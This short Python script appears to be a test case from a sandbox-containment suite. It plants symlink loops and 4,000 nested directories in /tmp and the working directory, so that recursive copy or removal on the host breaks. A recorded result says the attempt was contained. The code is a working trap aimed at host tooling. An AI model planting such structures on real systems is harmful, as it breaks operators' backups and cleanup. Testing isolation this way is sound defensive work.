"""Leave a loop of links and 4,000 directories in each other, on which a recursive copy or removal on the host breaks.

HELD: they lie in a layer that vanishes with the run; the run ends as any other, and the host walks nothing.
"""
from attack import *

os.symlink("loop-b", "loop-a")
os.symlink("loop-a", "loop-b")
os.symlink(".", "self")
for place in ("/tmp", os.getcwd()):
    os.chdir(place)
    for _ in range(4000):
        os.mkdir("d")
        os.chdir("d")
